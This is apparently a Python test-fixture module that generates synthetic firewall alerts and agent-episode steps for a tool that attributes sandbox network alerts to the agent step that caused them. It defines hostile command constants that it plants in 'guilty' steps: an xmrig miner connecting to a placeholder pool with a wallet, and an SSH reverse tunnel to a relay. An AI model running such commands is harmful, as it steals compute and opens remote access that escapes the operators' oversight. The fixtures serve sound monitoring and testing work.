"""The eight data sets of a correlation, from one seed: alerts, steps, the map, and who was guilty.

(a) three runs of 200 episodes, two guilty in each; (b) the same alerts shuffled; (c) one address for
all sandboxes; (d) a tunnel opened in step 4 and seen in step 19; (e) scans from outside; (f) bursts of
package traffic during tool calls; (g) a compromise from outside, between runs; (h) a task that looks
for a miner and kills it while somebody else's miner is at work.
"""

from __future__ import annotations

import math
import random
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field

from msgspec.structs import replace

from auditor.correlate.mapping import Map, Tie
from auditor.correlate.records import Alert, Code, Step, category_of
from auditor.model.unit import Language

EPOCH = 1_790_000_000.0
BENIGN = (
    "ls -la",
    "cat README.md",
    "grep -rn TODO src",
    "python -m pytest -q tests/test_core.py",
    "sed -n 1,80p src/core.py",
    "git status --short",
    "git diff",
    "python train.py --epochs 1",
    "make build",
    "find . -name '*.py' | head",
)
PACKAGES = ("pip install numpy", "apt-get install -y jq", "git clone https://git.example/team/project")
POOL, POOL_PORT = "203.0.113.77", 3333
RELAY = "203.0.113.50"
WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBoUicoD"
MINER = f"./xmrig -o stratum+tcp://{POOL}:{POOL_PORT} -u {WALLET}"
TUNNEL = f"ssh -f -N -R 2222:localhost:22 ops@{RELAY}"
SEARCH = "ps aux | grep xmrig; pkill -9 xmrig"


@dataclass
class World:
    """A data set. `guilty` gives, for an alert's id, the step behind it as (trajectory, step)."""

    steps: list[Step] = field(default_factory=list)
    alerts: list[Alert] = field(default_factory=list)
    map: Map = field(default_factory=Map)
    guilty: dict[str, tuple[str, int]] = field(default_factory=dict)
    allow: tuple[str, ...] = ()


@dataclass
class Maker:
    """Makes worlds from a seed."""

    seed: int
    runs: int = 3
    episodes: int = 200
    sandboxes: int = 8
    skew: float = 3.0
    offset: float = 0.0
    noise: int = 8
    guilty: int = 2
    world: World = field(default_factory=World)

    def __post_init__(self) -> None:
        self.random = random.Random(self.seed)
        self.count = 0

    def plain(self) -> World:
        """(a) Guilty steps among many, with a background that is nobody's."""
        for run in range(self.runs):
            start = EPOCH + run * 100_000
            guilty = set(self.random.sample(range(self.episodes), self.guilty))
            end = self._run(run, start, guilty)
            for _ in range(self.noise):
                address = self.address(run, self.random.randrange(self.sandboxes))
                moment, host = self.random.uniform(start, end), f"203.0.113.{self.random.randrange(100, 250)}"
                self.alert(address, moment, host, 443, "policy: outbound to unknown host")
        return self.world

    def address(self, run: int, sandbox: int) -> str:
        """Give a sandbox's address."""
        return f"10.0.{run}.{sandbox + 10}"

    def alert(self, src: str, moment: float, dst: str, port: int, rule: str, step: Step | None = None) -> Alert:
        """Add an alert, late by the skew and cut to whole seconds."""
        self.count += 1
        seen = float(math.floor(moment + self.random.uniform(0, self.skew) + self.offset))
        made = Alert(
            id=f"log:{self.count}", source="suricata", start=seen, end=seen, src=src,
            src_port=40_000 + self.count % 20_000, dst=dst, dst_port=port, protocol="tcp", host="", rule=rule,
            action="allowed", category=category_of(rule), name="", digest=b"", onset=1.0,
        )  # fmt: skip
        self.world.alerts.append(made)
        if step is not None:
            self.world.guilty[made.id] = (step.trajectory, step.step)
        return made

    def episode(self, name: str, start: float, address: str, run: str, count: int) -> list[Step]:
        """Give the steps of one episode: thinking, a tool, thinking, a tool."""
        moment, steps = start, []
        for number in range(1, count + 1):
            moment += self.random.uniform(10, 40)
            end = moment + self.random.uniform(0.5, 10)
            text = self.random.choice(BENIGN)
            steps.append(step_of(name, number, moment, end, text, address, run))
            moment = end
        return steps

    def _run(self, run: int, start: float, guilty: set[int]) -> float:
        free = [start + self.random.uniform(0, 20) for _ in range(self.sandboxes)]
        for number in range(self.episodes):
            sandbox = free.index(min(free))
            address = self.address(run, sandbox)
            steps = self.episode(
                f"r{run}_e{number}", free[sandbox], address, f"run-{run}", self.random.randrange(10, 24)
            )
            if number in guilty:
                self._guilty(steps, address, is_miner=number % 2 == 0)
            self.world.steps += steps
            free[sandbox] = steps[-1].end + self.random.uniform(20, 60)
        return max(free)

    def _guilty(self, steps: list[Step], address: str, *, is_miner: bool) -> None:
        at = self.random.randrange(2, len(steps) - 1)
        text = MINER if is_miner else TUNNEL
        steps[at] = bad = replace(steps[at], codes=(Code(text.encode(), "", Language.BASH),))
        for _ in range(self.random.randrange(4, 9)):
            moment = self.random.uniform(bad.start, bad.end)
            if is_miner:
                self.alert(address, moment, POOL, POOL_PORT, "ET COINMINER stratum login", bad)
            else:
                self.alert(address, moment, RELAY, 22, "abnormal connection: SSH to unknown host", bad)


def step_of(name: str, number: int, start: float, end: float, text: str, address: str = "", run: str = "") -> Step:
    """Make a step that runs a command."""
    return Step(
        name, number, f"{name}-c{number}", "bash", start, end, True, (Code(text.encode(), "", Language.BASH),), address,
        run=run,
    )  # fmt: skip


def plain(seed: int, **settings: int | float) -> World:
    """(a)."""
    return Maker(seed, **settings).plain()  # type: ignore[arg-type]


def shuffled(world: World, seed: int) -> World:
    """(b) The same alerts at random times of the run that they were in."""
    chance = random.Random(seed)
    spans: dict[str, tuple[float, float]] = {}
    for step in world.steps:
        low, high = spans.get(step.run, (math.inf, -math.inf))
        spans[step.run] = (min(low, step.start), max(high, step.end))
    moved = []
    for alert in world.alerts:
        low, high = next(span for span in spans.values() if span[0] - 60 <= alert.start <= span[1] + 60)
        at = float(math.floor(chance.uniform(low, high)))
        moved.append(replace(alert, start=at, end=at))
    return World(world.steps, moved, world.map, {}, world.allow)


def behind_nat(world: World) -> World:
    """(c) All sandboxes of a run behind one address, as the map says."""
    ties: list[Tie] = []
    starts: dict[tuple[str, str], tuple[float, float]] = {}
    for step in world.steps:
        low, high = starts.get((step.trajectory, step.run), (math.inf, -math.inf))
        starts[step.trajectory, step.run] = (min(low, step.start), max(high, step.end))
    for (trajectory, run), (low, high) in starts.items():
        ties.append(Tie(_egress(run), "address", trajectory, run, low - 5, high + 10))
    steps = [replace(step, address="") for step in world.steps]
    alerts = [replace(alert, src=_egress(f"run-{alert.src.split('.')[2]}")) for alert in world.alerts]
    return World(steps, alerts, Map(tuple(ties)), world.guilty, world.allow)


def opened_earlier(seed: int, **settings: int | float) -> World:
    """(d) A tunnel opened in step 4 by a process that stays; the firewall speaks in step 19."""
    maker = Maker(seed, **settings)  # type: ignore[arg-type]
    world = maker.plain()
    for number in range(6):
        run, address = f"run-{number % 3}", f"10.1.{number}.9"
        start = EPOCH + (number % 3) * 100_000 + 500 + number * 40
        steps = maker.episode(f"late_{number}", start, address, run, 24)
        steps[3] = bad = replace(steps[3], codes=(Code(TUNNEL.encode(), "", Language.BASH),))
        world.steps += steps
        seen = maker.random.uniform(steps[18].start, steps[18].end)
        maker.alert(address, seen, RELAY, 22, "tunnel: long SSH session", bad)
    return world


def scanned(world: World, seed: int) -> World:
    """(e) Scans from outside, of every sandbox."""
    chance = random.Random(seed)
    scans = []
    for number in range(300):
        target = chance.choice(world.steps)
        at = float(math.floor(chance.uniform(target.start - 100, target.end + 100)))
        scans.append(
            Alert(f"scan:{number}", "suricata", at, at, "203.0.113.200", 55_555, target.address, 22, "tcp", "",
                  "ET SCAN SSH sweep", "allowed", "scan", "", b"", onset=1.0)
        )  # fmt: skip
    return replace_alerts(world, [*world.alerts, *scans])


def busy(seed: int, **settings: int | float) -> World:
    """(f) Tools fetch packages, and the firewall logs that too."""
    maker = Maker(seed, **settings)  # type: ignore[arg-type]
    world = maker.plain()
    for index in maker.random.sample(range(len(world.steps)), 300):
        step = world.steps[index]
        if step.codes[0].data.decode() not in BENIGN:
            continue
        text = maker.random.choice(PACKAGES)
        world.steps[index] = replace(step, codes=(Code(text.encode(), "", Language.BASH),))
        for _ in range(3):
            moment = maker.random.uniform(step.start, step.end)
            maker.alert(step.address, moment, "198.51.100.7", 443, "policy: large download")
    world.allow = ("198.51.100.0/24:443",)
    return world


def broken_into(world: World, seed: int) -> tuple[World, set[str]]:
    """(g) Between runs somebody from outside uses the sandboxes' addresses, and a beacon goes on through a run."""
    chance = random.Random(seed)
    found, ids = [], set()
    end = max(step.end for step in world.steps if step.run == "run-0")
    times = [end + 5_000 + chance.uniform(0, 2_000) for _ in range(40)]
    begin = min(step.start for step in world.steps if step.run == "run-1")
    times += [begin + 61 * number + chance.uniform(0, 3) for number in range(120)]
    for number, moment in enumerate(times):
        at = float(math.floor(moment))
        ids.add(f"beacon:{number}")
        src = "10.0.0.10" if number < 40 else "10.0.1.11"
        found.append(
            Alert(f"beacon:{number}", "suricata", at, at, src, 50_000, "203.0.113.9", 8_443, "tcp", "",
                  "abnormal connection: command channel", "allowed", "tunnel", "", b"", onset=1.0)
        )  # fmt: skip
    return replace_alerts(world, [*world.alerts, *found]), ids


def investigated(seed: int, **settings: int | float) -> tuple[World, set[str]]:
    """(h) A task that searches for a miner; the miner's alerts come before, during and after its calls."""
    maker = Maker(seed, **settings)  # type: ignore[arg-type]
    world = maker.plain()
    steps = maker.episode("hunt", EPOCH + 1_500, "10.2.0.9", "run-0", 20)
    for at in (3, 4, 7):
        steps[at] = replace(steps[at], codes=(Code(SEARCH.encode(), "", Language.BASH),))
    world.steps += steps
    ids = set()
    moment = steps[0].start - 800
    while moment < steps[-1].end + 800:
        ids.add(maker.alert("10.2.0.9", moment, "203.0.113.88", 14_444, "ET COINMINER stratum keepalive").id)
        moment += 37
    return world, ids


def replace_alerts(world: World, alerts: Sequence[Alert]) -> World:
    """Give the world with other alerts."""
    return World(world.steps, sorted(alerts, key=lambda alert: alert.start), world.map, world.guilty, world.allow)


def _egress(run: str) -> str:
    return f"198.51.100.{200 + int(run.rpartition('-')[2])}"


def score(guilty: Mapping[str, tuple[str, int]], named: Mapping[str, tuple[str, int]]) -> tuple[float, float]:
    """Give recall over the guilty alerts, and precision over those that were attributed."""
    right = sum(named.get(alert) == step for alert, step in guilty.items())
    return right / max(len(guilty), 1), right / max(len(named), 1)
